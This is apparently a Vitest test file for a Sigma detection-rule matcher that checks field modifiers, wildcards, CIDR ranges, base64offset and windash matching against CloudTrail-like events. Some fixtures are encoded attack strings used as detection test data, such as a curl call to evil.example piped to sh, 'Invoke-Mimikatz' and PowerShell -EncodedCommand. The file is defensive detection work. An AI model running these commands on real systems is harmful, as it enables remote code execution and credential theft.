import { Buffer } from 'node:buffer';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { FieldGetter, ValueOptions } from './values.js';
import { compileFieldItem, compileKeywords, REGEX_INPUT_CAP, SigmaValueError } from './values.js';

/** A dotted-path getter over a composed record; `''` is the whole record. */
const getter =
  (record: unknown): FieldGetter =>
  (path) =>
    path === ''
      ? record
      : path
          .split('.')
          .reduce<unknown>(
            (v, k) =>
              v !== null && typeof v === 'object' ? (v as Record<string, unknown>)[k] : undefined,
            record,
          );

const matches = (key: string, value: unknown, record: unknown, o?: ValueOptions): boolean =>
  compileFieldItem(key, value, o).test(getter(record));

const b64 = (text: string, enc: BufferEncoding = 'utf8') =>
  Buffer.from(text, enc).toString('base64');

/** Sigma escaping of a literal text: `\`, `*`, `?` each behind a backslash. */
const escapeSigma = (s: string) => s.replace(/[\\*?]/g, '\\$&');

describe('compileFieldItem', () => {
  it('splits the key into the field and its modifiers', () => {
    const item = compileFieldItem('requestParameters.policyDocument|contains|all', ['a', 'b']);
    expect(item.field).toBe('requestParameters.policyDocument');
    expect(item.modifiers).toEqual(['contains', 'all']);
  });

  it('matches any value of an equality list, as the whole value', () => {
    const list = ['CreateUser', 'CreateAccessKey'];
    expect(matches('eventName', list, { eventName: 'CreateAccessKey' })).toBe(true);
    expect(matches('eventName', list, { eventName: 'DeleteUser' })).toBe(false);
    expect(matches('eventName', list, { eventName: 'CreateUserProfile' })).toBe(false);
    expect(matches('eventName', list, {})).toBe(false);
  });

  it('ignores case unless cased is given', () => {
    expect(matches('eventName', 'createuser', { eventName: 'CreateUser' })).toBe(true);
    expect(matches('eventName|cased', 'createuser', { eventName: 'CreateUser' })).toBe(false);
    expect(matches('eventName|cased', 'CreateUser', { eventName: 'CreateUser' })).toBe(true);
    expect(matches('eventName|contains|cased', 'User', { eventName: 'Createuser' })).toBe(false);
  });

  it('treats * and ? as wildcards and a backslash as their escape', () => {
    expect(matches('eventName', 'Create*', { eventName: 'CreateUser' })).toBe(true);
    expect(matches('eventName', 'Get?bject', { eventName: 'GetObject' })).toBe(true);
    expect(matches('eventName', 'Get?bject', { eventName: 'GetObbject' })).toBe(false);
    expect(matches('f', 'a\\*b', { f: 'a*b' })).toBe(true);
    expect(matches('f', 'a\\*b', { f: 'axb' })).toBe(false);
    expect(matches('f', 'a\\?', { f: 'a?' })).toBe(true);
    expect(matches('f', 'a\\?', { f: 'ab' })).toBe(false);
    // `\\*` is a literal backslash and then a wildcard.
    expect(matches('f', 'a\\\\*', { f: 'a\\xyz' })).toBe(true);
    expect(matches('f', 'a\\\\*', { f: 'axyz' })).toBe(false);
    // A backslash before anything else is itself literal.
    expect(matches('f', 'C:\\Windows\\sys*', { f: 'c:\\windows\\system32' })).toBe(true);
  });

  it('lets * and ? span newlines and leaves regex syntax in the rule literal', () => {
    expect(matches('f', 'a*b', { f: 'a\n\nb' })).toBe(true);
    expect(matches('f', 'a?b', { f: 'a\nb' })).toBe(true);
    expect(matches('f', '(a|b).+', { f: '(a|b).+' })).toBe(true);
    expect(matches('f', '(a|b).+', { f: 'aa' })).toBe(false);
  });

  it('matches contains on a nested object against its compact JSON text', () => {
    const record = { requestParameters: { userName: 'mallory', path: '/' } };
    expect(matches('requestParameters|contains', '"userName":"mallory"', record)).toBe(true);
    expect(matches('requestParameters|contains', 'MALLORY', record)).toBe(true);
    expect(matches('requestParameters|contains', 'alice', record)).toBe(false);
  });

  it('sees strings inside an object as JSON writes them and a JSON string as it is', () => {
    const record = { requestParameters: { policyDocument: '{"Effect":"Allow"}' } };
    expect(matches('requestParameters|contains', '"Effect":"Allow"', record)).toBe(false);
    expect(matches('requestParameters|contains', '\\"Effect\\":\\"Allow\\"', record)).toBe(true);
    const doc = 'requestParameters.policyDocument|contains';
    expect(matches(doc, '"Effect":"Allow"', record)).toBe(true);
  });

  it('anchors startswith and endswith at one end only', () => {
    const record = { userAgent: 'aws-cli/2.15.0 Python/3.11' };
    expect(matches('userAgent|startswith', 'AWS-CLI/', record)).toBe(true);
    expect(matches('userAgent|startswith', 'Python', record)).toBe(false);
    expect(matches('userAgent|endswith', 'python/3.11', record)).toBe(true);
    expect(matches('userAgent|endswith', 'aws-cli', record)).toBe(false);
    expect(matches('userAgent|startswith', 'aws-cli/?.15', record)).toBe(true);
  });

  it('needs every value with all', () => {
    const key = 'requestParameters.policyDocument|contains|all';
    const values = ['"Action":"\\*"', '"Resource":"\\*"'];
    const both = { requestParameters: { policyDocument: '{"Action":"*","Resource":"*"}' } };
    const one = { requestParameters: { policyDocument: '{"Action":"*","Resource":"arn"}' } };
    expect(matches(key, values, both)).toBe(true);
    expect(matches(key, values, one)).toBe(false);
    expect(matches('requestParameters.policyDocument|contains', values, one)).toBe(true);
  });

  it('matches null when the field is absent or null', () => {
    expect(matches('errorCode', null, {})).toBe(true);
    expect(matches('errorCode', null, { errorCode: null })).toBe(true);
    expect(matches('errorCode', null, { errorCode: 'AccessDenied' })).toBe(false);
    expect(matches('errorCode', null, { errorCode: '' })).toBe(false);
    expect(matches('errorCode', 'null', { errorCode: null })).toBe(false);
  });

  it('checks exists for presence only, null counting as present', () => {
    expect(matches('errorCode|exists', true, { errorCode: 'AccessDenied' })).toBe(true);
    expect(matches('errorCode|exists', true, { errorCode: null })).toBe(true);
    expect(matches('errorCode|exists', true, {})).toBe(false);
    expect(matches('errorCode|exists', false, {})).toBe(true);
    expect(matches('errorCode|exists', false, { errorCode: '' })).toBe(false);
    expect(() => compileFieldItem('errorCode|exists', 'yes')).toThrow(SigmaValueError);
    expect(() => compileFieldItem('errorCode|exists', [true])).toThrow(SigmaValueError);
  });

  it('matches event numbers and booleans by their string forms', () => {
    expect(matches('readOnly', 'false', { readOnly: false })).toBe(true);
    expect(matches('readOnly', 'FALSE', { readOnly: false })).toBe(true);
    expect(matches('readOnly', 'false', { readOnly: true })).toBe(false);
    expect(matches('readOnly', false, { readOnly: 'false' })).toBe(true);
    expect(matches('port', '12', { port: 12 })).toBe(true);
    expect(matches('port', '1*', { port: 12 })).toBe(true);
    expect(matches('port|contains', 2, { port: 123 })).toBe(true);
  });

  it('matches a rule number against equal event numbers and numeric strings', () => {
    expect(matches('port', 12, { port: 12 })).toBe(true);
    expect(matches('port', 12, { port: '12' })).toBe(true);
    expect(matches('port', 12, { port: '12.0' })).toBe(true);
    expect(matches('port', 12, { port: 13 })).toBe(false);
    expect(matches('port', 12, { port: '12a' })).toBe(false);
    expect(matches('port', 0, { port: '' })).toBe(false);
    expect(matches('port', 1, { port: true })).toBe(false);
  });

  it('matches an array field when any element matches', () => {
    const record = { tags: ['dev', 'Prod', null, { k: 'v' }] };
    expect(matches('tags', 'prod', record)).toBe(true);
    expect(matches('tags', 'staging', record)).toBe(false);
    expect(matches('tags|contains', '"k":"v"', record)).toBe(true);
    expect(matches('tags', null, record)).toBe(true);
    expect(matches('tags', null, { tags: ['dev'] })).toBe(false);
    expect(matches('tags|exists', true, { tags: [] })).toBe(true);
    expect(matches('ports|gt', 1000, { ports: [22, 8080] })).toBe(true);
    expect(matches('ips|cidr', '10.0.0.0/8', { ips: ['192.0.2.1', '10.9.9.9'] })).toBe(true);
  });

  it('searches with re, case-sensitive unless re|i', () => {
    const record = { userAgent: 'AWS-CLI/2.15.0' };
    expect(matches('userAgent|re', 'CLI/2\\.', record)).toBe(true);
    expect(matches('userAgent|re', '^aws-cli', record)).toBe(false);
    expect(matches('userAgent|re|i', '^aws-cli', record)).toBe(true);
    expect(matches('userAgent|re', '^x|CLI', record)).toBe(true);
    expect(matches('f|re', '^b$', { f: 'a\nb' })).toBe(false);
    expect(matches('f|re|m', '^b$', { f: 'a\nb' })).toBe(true);
    expect(matches('f|re', 'a.b', { f: 'a\nb' })).toBe(false);
    expect(matches('f|re|s', 'a.b', { f: 'a\nb' })).toBe(true);
  });

  it('rejects a regular expression that does not compile, with the reason', () => {
    const attempt = () => compileFieldItem('userAgent|re', '(unclosed');
    expect(attempt).toThrow(SigmaValueError);
    expect(attempt).toThrow(/invalid regular expression.*(unterminated|group|missing)/i);
    // RE2 runs in linear time, so what needs backtracking is refused, with its reason.
    expect(() => compileFieldItem('userAgent|re', '(?=kali)k')).toThrow(
      /invalid regular expression/,
    );
    expect(() => compileFieldItem('userAgent|re', 5)).toThrow(SigmaValueError);
  });

  it('runs re in linear time (RE2): patterns that backtrack without end on JS RegExp return', () => {
    // On JS RegExp each of these would run for longer than the test's timeout.
    const text = `${'a'.repeat(5000)}!`;
    expect(matches('f|re', '(a+)+$', { f: text })).toBe(false);
    expect(matches('f|re', '^(a|aa)+!$', { f: text })).toBe(true);
  });

  it('runs re over the first 64 KB of a value only', () => {
    const long = 'a'.repeat(REGEX_INPUT_CAP) + 'needle';
    expect(REGEX_INPUT_CAP).toBe(65536);
    expect(matches('f|re', 'needle', { f: long })).toBe(false);
    expect(matches('f|re', 'needle', { f: 'needle' + long })).toBe(true);
  });

  it('matches IPv4 CIDRs', () => {
    const key = 'sourceIPAddress|cidr';
    expect(matches(key, '10.0.0.0/8', { sourceIPAddress: '10.200.3.4' })).toBe(true);
    expect(matches(key, '10.0.0.0/8', { sourceIPAddress: '11.0.0.1' })).toBe(false);
    expect(matches(key, '10.0.0.0/8', { sourceIPAddress: 'AWS Internal' })).toBe(false);
    expect(matches(key, '10.0.0.0/8', { sourceIPAddress: '010.0.0.1' })).toBe(false);
    expect(matches(key, '192.0.2.7', { sourceIPAddress: '192.0.2.7' })).toBe(true);
    expect(matches(key, '0.0.0.0/0', { sourceIPAddress: '203.0.113.9' })).toBe(true);
    expect(
      matches(key, ['198.51.100.0/24', '203.0.113.0/25'], { sourceIPAddress: '203.0.113.9' }),
    ).toBe(true);
  });

  it('matches IPv6 CIDRs and keeps the families apart', () => {
    const key = 'sourceIPAddress|cidr';
    expect(matches(key, '2001:db8::/32', { sourceIPAddress: '2001:db8:0:1::5' })).toBe(true);
    expect(matches(key, '2001:DB8::/32', { sourceIPAddress: '2001:0db8:ffff::' })).toBe(true);
    expect(matches(key, '2001:db8::/32', { sourceIPAddress: '2001:db9::1' })).toBe(false);
    expect(matches(key, '::ffff:0:0/96', { sourceIPAddress: '::ffff:10.0.0.1' })).toBe(true);
    expect(matches(key, '10.0.0.0/8', { sourceIPAddress: '::ffff:10.0.0.1' })).toBe(false);
    expect(matches(key, '::1', { sourceIPAddress: '0:0:0:0:0:0:0:1' })).toBe(true);
  });

  it('rejects bad CIDRs', () => {
    const bad = [
      '10.0.0.0/33',
      '300.0.0.0/8',
      '10.0.0/8',
      '10.0.0.1/8',
      '10.0.0.0/',
      'x',
      '2001:db8:::/32',
      '2001:db8::/129',
      '1:2:3:4:5:6:7:8:9/128',
      'fe80::1%eth0',
    ];
    for (const cidr of bad) {
      expect(() => compileFieldItem('ip|cidr', cidr), cidr).toThrow(SigmaValueError);
    }
  });

  it('compares with fieldref, case-insensitive unless cased', () => {
    const record = {
      userIdentity: { userName: 'Alice' },
      requestParameters: { userName: 'alice' },
    };
    const key = 'userIdentity.userName|fieldref';
    expect(matches(key, 'requestParameters.userName', record)).toBe(true);
    expect(matches(`${key}|cased`, 'requestParameters.userName', record)).toBe(false);
    expect(matches(key, 'requestParameters.missing', record)).toBe(false);
    const other = { ...record, requestParameters: { userName: 'bob' } };
    expect(matches(key, 'requestParameters.userName', other)).toBe(false);
  });

  it('compares with fieldref|startswith, endswith and contains', () => {
    const record = {
      a: 'arn:aws:iam::1:user/alice',
      b: 'arn:aws:iam::1',
      c: 'user/alice',
      d: 'iam',
    };
    expect(matches('a|fieldref|startswith', 'b', record)).toBe(true);
    expect(matches('a|fieldref|endswith', 'c', record)).toBe(true);
    expect(matches('a|fieldref|contains', 'd', record)).toBe(true);
    expect(matches('a|fieldref|endswith', 'b', record)).toBe(false);
    expect(matches('b|fieldref|startswith', 'a', record)).toBe(false);
  });

  it('matches base64 as the encoded value', () => {
    const record = { userData: b64('#!/bin/sh curl evil') };
    expect(matches('userData|base64', '#!/bin/sh curl evil', record)).toBe(true);
    expect(matches('userData|base64', '#!/bin/sh curl good', record)).toBe(false);
    expect(matches('userData|base64|startswith', '#!/bin', record)).toBe(true);
  });

  it('finds base64offset|contains at every byte offset', () => {
    const secret = 'curl http://evil.example';
    for (const prefix of ['', 'x', 'xy', 'xyz', 'wxyz']) {
      for (const suffix of ['', '!', '!!', ' | sh']) {
        const record = { userData: b64(`${prefix}${secret}${suffix}`) };
        expect(matches('userData|base64offset|contains', secret, record), prefix + suffix).toBe(
          true,
        );
        const other = { userData: b64(`${prefix}curl http://good.example${suffix}`) };
        expect(matches('userData|base64offset|contains', secret, other)).toBe(false);
      }
    }
  });

  it('produces the documented base64offset variants of /bin/bash', () => {
    for (const variant of ['L2Jpbi9iYXNo', '9iaW4vYmFza', 'vYmluL2Jhc2']) {
      expect(matches('f|base64offset|contains', '/bin/bash', { f: `..${variant}..` })).toBe(true);
    }
    expect(matches('f|base64offset|contains', '/bin/bash', { f: 'L2Jpbi9iYXN' })).toBe(false);
  });

  it('finds utf16le|base64offset|contains at every offset, wide being its alias', () => {
    const secret = 'Invoke-Mimikatz';
    for (const prefix of ['', 'a', 'ab', 'abc']) {
      const record = { f: b64(`${prefix}${secret} -x`, 'utf16le') };
      expect(matches('f|utf16le|base64offset|contains', secret, record)).toBe(true);
      expect(matches('f|wide|base64offset|contains', secret, record)).toBe(true);
      expect(matches('f|base64offset|contains', secret, record)).toBe(false);
    }
  });

  it('encodes utf16be and utf16 (with a byte order mark) before base64', () => {
    const be = Buffer.from('cmd', 'utf16le').swap16().toString('base64');
    expect(matches('f|utf16be|base64', 'cmd', { f: be })).toBe(true);
    const bom = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('cmd', 'utf16le')]);
    expect(matches('f|utf16|base64', 'cmd', { f: bom.toString('base64') })).toBe(true);
  });

  it('rejects encodings that are not followed by base64 and wildcards under base64', () => {
    expect(() => compileFieldItem('f|utf16le', 'x')).toThrow(/utf16le/);
    expect(() => compileFieldItem('f|base64|wide', 'x')).toThrow(/wide/);
    expect(() => compileFieldItem('f|contains|base64offset', 'x')).toThrow(/contains/);
    expect(() => compileFieldItem('f|base64', 'a*')).toThrow(SigmaValueError);
    expect(() => compileFieldItem('f|base64offset|startswith', 'abcd')).toThrow(/startswith/);
    expect(() => compileFieldItem('f|base64offset|contains', 'a')).toThrow(/too short/);
  });

  it('lets windash match a word-leading dash as any of the five dash forms', () => {
    const key = 'commandLine|contains|windash';
    for (const dash of ['-', '/', '–', '—', '―']) {
      expect(
        matches(key, ' -EncodedCommand ', { commandLine: `powershell ${dash}encodedcommand x` }),
      ).toBe(true);
    }
    expect(matches(key, ' -EncodedCommand ', { commandLine: 'powershell +EncodedCommand x' })).toBe(
      false,
    );
    expect(matches(key, ' /c ', { commandLine: 'cmd.exe -c whoami' })).toBe(true);
    expect(matches('f|windash', 'x-y', { f: 'x/y' })).toBe(false);
    expect(matches('f|windash', '-a -b', { f: '/a –b' })).toBe(true);
  });

  it('expands placeholders into every configured combination', () => {
    const o: ValueOptions = {
      placeholders: { office: ['10.1.1.1', '10.2.*'], env: ['prod', 'dev'] },
    };
    expect(matches('ip|expand', '%office%', { ip: '10.2.9.9' }, o)).toBe(true);
    expect(matches('ip|expand', '%office%', { ip: '10.3.0.1' }, o)).toBe(false);
    const key = 'role|expand';
    expect(matches(key, '%env%-%env%', { role: 'dev-prod' }, o)).toBe(true);
    expect(matches(key, '%env%-%env%', { role: 'dev-test' }, o)).toBe(false);
    expect(matches(key, '\\%env%-%env%', { role: '%env%-dev' }, o)).toBe(true);
    expect(matches('role', '%env%', { role: '%env%' }, o)).toBe(true);
  });

  it('matches nothing for a placeholder without configured values', () => {
    expect(matches('ip|expand', '%office%', { ip: '%office%' })).toBe(false);
    expect(matches('ip|expand', '%office%', { ip: '' })).toBe(false);
    const o: ValueOptions = { placeholders: { constructor: ['x'] } };
    expect(matches('ip|expand', '%toString%', { ip: 'x' }, o)).toBe(false);
    expect(matches('ip|expand', ['%office%', '10.*'], { ip: '10.0.0.1' })).toBe(true);
  });

  it('compares numbers with gt and lte, numeric strings included', () => {
    expect(matches('n|gt', 10, { n: 11 })).toBe(true);
    expect(matches('n|gt', 10, { n: 10 })).toBe(false);
    expect(matches('n|gt', 10, { n: '11' })).toBe(true);
    expect(matches('n|gt', '10', { n: 10.5 })).toBe(true);
    expect(matches('n|gt', 10, { n: 'eleven' })).toBe(false);
    expect(matches('n|gt', 10, {})).toBe(false);
    expect(matches('n|lte', 10, { n: 10 })).toBe(true);
    expect(matches('n|lte', 10, { n: '-3' })).toBe(true);
    expect(matches('n|lte', 10, { n: 11 })).toBe(false);
    expect(matches('n|gte', 0, { n: true })).toBe(false);
    expect(() => compileFieldItem('n|gt', 'ten')).toThrow(SigmaValueError);
    expect(() => compileFieldItem('n|gt', true)).toThrow(SigmaValueError);
  });

  it('rejects unknown modifiers and combinations that make no sense, naming the modifier', () => {
    expect(() => compileFieldItem('f|contians', 'x')).toThrow(/contians/);
    expect(() => compileFieldItem('f|constructor', 'x')).toThrow(/constructor/);
    expect(() => compileFieldItem('f|', 'x')).toThrow(SigmaValueError);
    expect(() => compileFieldItem('f|re|contains', 'x')).toThrow(/contains/);
    expect(() => compileFieldItem('f|cidr|contains', '10.0.0.0/8')).toThrow(/contains/);
    expect(() => compileFieldItem('f|gt|contains', 1)).toThrow(/contains/);
    expect(() => compileFieldItem('f|startswith|endswith', 'x')).toThrow(/endswith/);
    expect(() => compileFieldItem('f|contains|contains', 'x')).toThrow(/contains/);
    expect(() => compileFieldItem('f|i', 'x')).toThrow(/'i' needs 're'/);
    expect(() => compileFieldItem('f|re|cased', 'x')).toThrow(/cased/);
    expect(() => compileFieldItem('f|exists|all', true)).toThrow(/all/);
    expect(() => compileFieldItem('f|neq', 'x')).toThrow(/neq.*not supported/);
  });

  it('accepts only scalars or lists of scalars, null alone and all over two values or more', () => {
    expect(() => compileFieldItem('f', { a: 1 })).toThrow(SigmaValueError);
    expect(() => compileFieldItem('f', [['a']])).toThrow(SigmaValueError);
    expect(() => compileFieldItem('f', [])).toThrow(SigmaValueError);
    expect(() => compileFieldItem('f', ['', null])).toThrow(/null/);
    expect(() => compileFieldItem('f|contains', null)).toThrow(/null/);
    expect(() => compileFieldItem('f|contains|all', 'x')).toThrow(/all/);
    expect(() => compileFieldItem('f|contains|all', ['x'])).toThrow(/all/);
  });

  it('treats a field-less |all key as keywords that must all appear', () => {
    const record = { eventName: 'PutBucketPolicy', requestParameters: { bucketName: 'Loot' } };
    expect(matches('|all', ['putbucket', 'loot'], record)).toBe(true);
    expect(matches('|all', ['putbucket', 'other'], record)).toBe(false);
    expect(() => compileFieldItem('|contains', ['a', 'b'])).toThrow(/contains/);
  });

  it('stays fast on wildcard patterns that backtrack badly as one RegExp', () => {
    const text = 'a'.repeat(20_000);
    expect(matches('f', '*a*a*a*a*a*a*b', { f: text })).toBe(false);
    expect(matches('f', 'a*a*a*a*a*a*a', { f: text })).toBe(true);
  });

  it('matches any escaped literal text as itself, and inside longer text with contains', () => {
    fc.assert(
      fc.property(fc.string(), fc.string(), fc.string(), (before, s, after) => {
        expect(matches('f', escapeSigma(s), { f: s })).toBe(true);
        expect(matches('f|contains|cased', escapeSigma(s), { f: before + s + after })).toBe(true);
      }),
    );
  });
});

describe('compileKeywords', () => {
  const record = {
    eventName: 'GetSecretValue',
    requestParameters: { secretId: 'prod/DB-Password' },
    readOnly: true,
  };

  it('matches any keyword as a case-insensitive substring of the record JSON', () => {
    expect(compileKeywords(['nothing', 'db-password'])(record)).toBe(true);
    expect(compileKeywords('getsecret')(record)).toBe(true);
    expect(compileKeywords(['"readOnly":true'])(record)).toBe(true);
    expect(compileKeywords(['staging', 'DeleteSecret'])(record)).toBe(false);
  });

  it('applies wildcards inside a keyword', () => {
    expect(compileKeywords('prod/*-password')(record)).toBe(true);
    expect(compileKeywords('prod/??-password')(record)).toBe(true);
    expect(compileKeywords('prod/?-password')(record)).toBe(false);
  });

  it('rejects keywords that are not plain values', () => {
    expect(() => compileKeywords([{ a: 1 }])).toThrow(SigmaValueError);
    expect(() => compileKeywords([null])).toThrow(SigmaValueError);
    expect(() => compileKeywords([])).toThrow(SigmaValueError);
  });
});
